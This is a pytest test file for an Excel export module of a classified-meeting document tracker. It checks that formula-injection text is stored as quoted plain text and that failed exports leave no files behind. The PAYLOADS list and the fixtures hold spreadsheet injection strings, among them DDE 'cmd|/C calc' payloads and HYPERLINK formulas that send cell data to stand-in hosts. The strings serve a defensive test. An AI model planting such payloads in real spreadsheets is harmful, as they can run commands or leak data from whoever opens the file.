"""The 保密办 workbook never holds a formula, whatever people typed; a failed export says so in
one line and leaves nothing behind."""

from __future__ import annotations

import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlmodel import Session

from carrier_tracker.cli import main
from carrier_tracker.custody.service import record_tap
from carrier_tracker.enums import Mode, Role
from carrier_tracker.meeting.lifecycle import open_consignment
from carrier_tracker.paper.export import export_carry_list, export_meeting
from carrier_tracker.paper.importer import import_workbook
from carrier_tracker.paper.layout import EXCEL_CELL_MAX, Column, printed_book
from tests.conftest import SAMPLE, skip_or_fail
from tests.data.make_hostile_corpus import (
    DOCS_HEAD,
    MEETING_HEAD,
    PEOPLE_HEAD,
    TAGS_HEAD,
    RawSheet,
    _table,
    write_xlsx,
)
from tests.factories import add_operators, file_paperwork
from tests.integration.cli_helpers import CODE, PIN, ROOT, register_operators
from tests.paper_tables import header_row

T0 = datetime(2026, 12, 8, 0, 30, tzinfo=UTC)
# What OWASP lists for formula injection, and the classics from the issue.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
_n = iter(range(10_000))


def hostile(prefix: str = "") -> str:
    """A distinct text starting with one of the formula triggers (= + - @), in turn."""
    i = next(_n)
    return f"{'=+-@'[i % 4]}{prefix}{i}"


def _hostile_meeting(path: Path) -> dict[str, str]:
    """A workbook whose every text field starts with = + - or @ (as text cells: the import
    refuses formula cells), and the values it holds."""
    v = {
        "code": "=M1",
        "title": PAYLOADS[1],
        "venue": PAYLOADS[2],
        "organizer": PAYLOADS[3],
        "officer": "@赵保密",
        "a_code": "=A1",
        "a_name": PAYLOADS[0],
        "a_unit": PAYLOADS[4],
        "a_title": hostile("职务"),
        "a_pass": "+P1",
        "b_code": "-A2",
        "b_name": hostile("李四"),
        "b_unit": hostile("单位"),
        "b_title": hostile("职务"),
        "b_pass": "@P2",
        "d_no": "-D1",
        "d_title": PAYLOADS[5],
        "e_no": "@D2",
        "e_title": hostile("文件"),
    }
    write_xlsx(
        path,
        [
            RawSheet(
                "会议",
                lambda: _table(
                    [
                        MEETING_HEAD,
                        [
                            v["code"],
                            v["title"],
                            "机密",
                            v["venue"],
                            None,
                            None,
                            v["organizer"],
                            v["officer"],
                            "否",
                        ],
                    ]
                ),
            ),
            RawSheet(
                "参会人员",
                lambda: _table(
                    [
                        PEOPLE_HEAD,
                        [
                            v["a_code"],
                            v["a_name"],
                            v["a_unit"],
                            v["a_title"],
                            "是",
                            "机密",
                            v["a_pass"],
                            "05000000000001",
                        ],
                        [
                            v["b_code"],
                            v["b_name"],
                            v["b_unit"],
                            v["b_title"],
                            "否",
                            "机密",
                            v["b_pass"],
                            "05000000000002",
                        ],
                    ]
                ),
            ),
            RawSheet(
                "文件",
                lambda: _table(
                    [
                        DOCS_HEAD,
                        [v["d_no"], v["d_title"], "机密", 3, "是", "是"],
                        [v["e_no"], v["e_title"], "秘密", 2, "否", "否"],
                    ]
                ),
            ),
            RawSheet(
                "标签绑定",
                lambda: _table(
                    [
                        TAGS_HEAD,
                        *([v["d_no"], k, f"0500000000010{k}"] for k in (1, 2, 3)),
                        *([v["e_no"], k, f"0500000000020{k}"] for k in (1, 2)),
                    ]
                ),
            ),
        ],
    )
    return v


@pytest.fixture
def hostile_export(
    session: Session, key: bytes, tmp_path: Path
) -> tuple[Path, Path, dict[str, str]]:
    src = tmp_path / "hostile.xlsx"
    v = _hostile_meeting(src)
    add_operators(session, {v["officer"]: Role.OFFICER})
    import_workbook(session=session, key=key, path=src, operator=hostile("导入"), now=T0)
    file_paperwork(session, key, v["code"], v["officer"])  # filed, venue checked: taps may open it
    session.commit()
    minute = iter(range(1, 1000))

    def tap(uid: str, mode: Mode, **kw: str) -> None:
        op = kw.pop("operator", None) or hostile("操作员")
        station = hostile("工作台")
        v[f"op{op}"], v[f"st{station}"] = op, station
        record_tap(
            session=session,
            key=key,
            meeting_code=v["code"],
            uid=uid,
            mode=mode,
            station=station,
            operator=op,
            now=T0 + timedelta(minutes=next(minute)),
            **kw,
        )
        session.commit()

    tap("05000000000001", Mode.ISSUE)  # A's pass
    tap("05000000000101", Mode.ISSUE, attendee_code=v["a_code"])
    tap("05000000000101", Mode.CARRY_OUT, operator=v["officer"])
    v["note"] = '=HYPERLINK("http://evil.example","遗失说明")'
    tap("05000000000201", Mode.LOST, operator=v["officer"], note=v["note"])
    v["k_no"], v["k_unit"], v["k_recipient"] = "=K1", "+cmd|' /C calc'!A0", "@钱七"
    open_consignment(
        session=session,
        key=key,
        meeting_code=v["code"],
        number=v["k_no"],
        unit=v["k_unit"],
        recipient=v["k_recipient"],
        operator=hostile("经办"),
        station=hostile("台"),
        now=T0 + timedelta(hours=1),
    )
    session.commit()
    tap("05000000000103", Mode.DISPATCH, consignment_no=v["k_no"])
    tap("FFFFFFFFFFFFFF", Mode.ISSUE)  # an unknown tag: a refusal in the log
    out, carry = tmp_path / "export.xlsx", tmp_path / "carry.xlsx"
    export_meeting(
        session=session,
        key=key,
        meeting_code=v["code"],
        path=out,
        operator=hostile("导出"),
        now=T0 + timedelta(hours=2),
    )
    export_carry_list(
        session=session,
        meeting_code=v["code"],
        attendee_code=v["a_code"],
        path=carry,
        now=T0 + timedelta(hours=2),
    )
    return out, carry, v


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb for row in ws.iter_rows() for cell in row]


TRIGGERS = ("=", "+", "-", "@")


def test_no_formula_cell_and_every_text_as_typed(
    hostile_export: tuple[Path, Path, dict[str, str]],
) -> None:
    out, carry, typed = hostile_export
    for path in (out, carry):
        cells = _cells(path)
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert formulas == [], f"{path.name}: formula cells {formulas}"
        with zipfile.ZipFile(
            path
        ) as z:  # and none in the file itself, whatever a reader makes of it
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert re.search(rb"<f[ >]", z.read(name)) is None, name
        risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
        assert risky, "the meeting's texts must be in the workbook"
        for c in risky:
            assert c.data_type == "s" and c.quotePrefix, (
                f"{path.name} {c.coordinate}={c.value!r} is not marked as text"
            )
    shown = {c.value for c in _cells(out) if isinstance(c.value, str)}
    for name in (
        "title",
        "venue",
        "organizer",
        "officer",
        "a_name",
        "a_unit",
        "b_name",
        "b_unit",
        "d_title",
        "e_title",
        "k_unit",
        "k_recipient",
        "code",
        "note",
    ):
        assert any(typed[name] in s for s in shown), f"{name} {typed[name]!r} not visible as typed"
    for key, value in typed.items():
        if key.startswith(("op", "st")) and key not in ("officer",):
            assert value in shown, f"{key} {value!r} not visible as typed"
    assert {c.value for c in _cells(carry) if isinstance(c.value, str)} >= {
        typed["a_code"],
        typed["a_name"],
        typed["d_title"],
    }


def test_text_cell_neutralises_what_cannot_enter_any_more(tmp_path: Path) -> None:
    """Tab, CR and control characters are refused at entry now, but a database written before
    may hold them; too-long text is cut with a visible mark instead of silently."""
    legacy = ["\t=1+1", "\r@SUM(A1)", "=A1\x01\x1b", "x" * 40_000, "@", "-", "plain", "", "＝1+1"]
    path = tmp_path / "s.xlsx"
    with printed_book(path) as book:
        sheet = book.sheet(
            "s",
            title="t",
            facts=[],
            columns=[Column(f"c{i}", 20) for i in range(len(legacy))],
            marking="机密★",
            code="X",
        )
        sheet.row(legacy)
        sheet.finish()
    ws = openpyxl.load_workbook(path)["s"]
    row = next(ws.iter_rows(min_row=header_row(ws) + 1))
    assert [c.data_type for c in row[:7]] == ["s"] * 7
    # the quote prefix marks what a spreadsheet could take for a formula (cut text is not)
    assert [c.quotePrefix for c in row[:7]] == [True, True, True, False, True, True, False]
    # a CR is stored as OOXML's _x000D_ escape (what Excel shows as the character itself)
    assert row[0].value == "\t=1+1" and unescape(row[1].value) == "\r@SUM(A1)"
    assert row[2].value == "=A1\\x01\\x1b"
    assert len(row[3].value) == EXCEL_CELL_MAX and row[3].value.endswith("…（共 40000 个字符）")
    assert row[7].value is None and row[8].quotePrefix


# --- failed exports: one line, exit 2, nothing left behind --------------------------------------


def _unprivileged() -> list[str]:
    """Tests run as root here, and root writes anywhere: drop the capabilities that let it
    (CAP_DAC_OVERRIDE & co.) so a 0555 directory refuses it as it refuses a custodian."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("root without setpriv cannot be refused by file permissions")
    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search,-fowner", "--inh-caps=-all"]


@pytest.fixture
def sample_home(tmp_path: Path) -> dict[str, str]:
    env = {
        **os.environ,
        "CARRIER_TRACKER_HOME": str(tmp_path / "home"),
        "CARRIER_TRACKER_DB": f"sqlite:///{tmp_path / 'ct.db'}",
        "CARRIER_TRACKER_OPERATOR": "孙文管",
        "CARRIER_TRACKER_PIN": PIN,
        "PYTHONPATH": str(ROOT),
        "TMPDIR": str(tmp_path / "tmp"),
    }
    (tmp_path / "tmp").mkdir()
    for argv in (["init"], ["import", str(SAMPLE)]):
        if argv == ["import", str(SAMPLE)]:
            register_operators(env)
        assert (
            subprocess.run(
                [sys.executable, "-m", "carrier_tracker.cli", *argv], env=env, capture_output=True
            ).returncode
            == 0
        )
    return env


def _export(
    env: dict[str, str], out: Path, prefix: list[str], preexec: Callable[[], None] | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*prefix, sys.executable, "-m", "carrier_tracker.cli", "export", CODE, "-o", str(out)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=preexec,
    )


def _assert_clean_failure(
    p: subprocess.CompletedProcess[str], out: Path, reason: str, tmpdir: Path
) -> None:
    lines = [
        line
        for line in p.stderr.splitlines()
        if not line.startswith(("操作日志：", "登记表：", "台账校验："))
    ]
    assert (p.returncode, lines) == (2, [f"错误：无法写入 {out}：{reason}（未留下任何文件）"]), (
        p.stderr
    )
    assert "Exception ignored" not in p.stderr and "Traceback" not in p.stderr
    assert sorted(out.parent.iterdir()) == [], "no X.xlsx, no X.xlsx.tmp"
    assert sorted(tmpdir.iterdir()) == [], "openpyxl's temporary sheets are removed too"


def test_permission_denied(sample_home: dict[str, str], tmp_path: Path) -> None:
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    try:
        p = _export(sample_home, locked / "登记.xlsx", _unprivileged())
    finally:
        locked.chmod(0o755)
    _assert_clean_failure(p, locked / "登记.xlsx", "没有权限", tmp_path / "tmp")


def test_disk_full(sample_home: dict[str, str], tmp_path: Path) -> None:
    """A disk that fills up mid-export, played by a file-size limit (RLIMIT_FSIZE: the kernel
    fails the write with EFBIG where a full disk gives ENOSPC; the same path handles both)."""

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    p = _export(sample_home, out_dir / "登记.xlsx", [], limit)
    _assert_clean_failure(p, out_dir / "登记.xlsx", "文件过大（超出系统限制）", tmp_path / "tmp")


def test_export_to_a_good_place_after_a_failure_works(
    sample_home: dict[str, str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for k in ("CARRIER_TRACKER_HOME", "CARRIER_TRACKER_DB", "CARRIER_TRACKER_OPERATOR"):
        monkeypatch.setenv(k, sample_home[k])
    out = tmp_path / "ok.xlsx"
    assert main(["export", CODE, "-o", str(out)]) == 0
    assert (
        out.stat().st_mode & 0o777 == 0o600
    )  # the register of a classified meeting: its owner's only
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


# A full disk, for real: a 4 KB tmpfs mounted in a private mount namespace (``unshare``), under
# the output file or under $TMPDIR (where the writers keep their temporary files). The mount
# lives only as long as the command; the script lists what is left in it before it goes.
_SMALL_FS = """
mount -t tmpfs -o size=4k tmpfs "$1" || exit 99
dir=$1; shift
"$@"; rc=$?
echo "LEFT:$(ls -A "$dir" | tr '\\n' ' ')"
exit $rc
"""


def _on_full_disk(
    env: dict[str, str], mount: Path, argv: list[str]
) -> subprocess.CompletedProcess[str]:
    unshare = shutil.which("unshare")
    probe = subprocess.run([unshare or "unshare", "-rm", "true"], capture_output=True)
    if unshare is None or probe.returncode != 0:
        skip_or_fail("no private mount namespace here (unshare -rm) to play a full disk")
    return subprocess.run(
        [unshare, "-rm", "sh", "-c", _SMALL_FS, "sh", str(mount),
         sys.executable, "-m", "carrier_tracker.cli", *argv],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip


_FULL_CASES = [
    (argv, where)
    for argv in (["export", CODE], ["carry-list", CODE, "A003"], ["forms", CODE], ["template"])
    for where in ("output", "tmpdir")
    if not (argv == ["template"] and where == "tmpdir")  # built in memory: no temporary files
]


@pytest.mark.parametrize(
    ("argv", "where"), _FULL_CASES, ids=[f"{a[0]}-{w}" for a, w in _FULL_CASES]
)
def test_disk_full_says_one_line(
    sample_home: dict[str, str], tmp_path: Path, argv: list[str], where: str
) -> None:
    """ENOSPC while the workbook is streamed or zipped: one line, exit 2, nothing left, and no
    ``ZipFile.__del__`` (or any other) traceback after the line (issue #25, item 13). The
    template is built in memory, so only its output's disk can fill."""
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "表.xlsx"
    full = [*argv, str(out)] if argv == ["template"] else [*argv, "-o", str(out)]
    mount = out_dir if where == "output" else Path(sample_home["TMPDIR"])
    p = _on_full_disk(sample_home, mount, full)
    said = [
        x
        for x in p.stderr.splitlines()
        if not x.startswith(("操作日志：", "登记表：", "台账校验："))
    ]
    assert (p.returncode, said) == (2, [f"错误：无法写入 {out}：磁盘空间不足（未留下任何文件）"]), (
        p.stderr
    )
    assert "LEFT:\n" in p.stdout or p.stdout.endswith("LEFT:"), p.stdout  # nothing left behind
    assert sorted(out_dir.iterdir()) == []
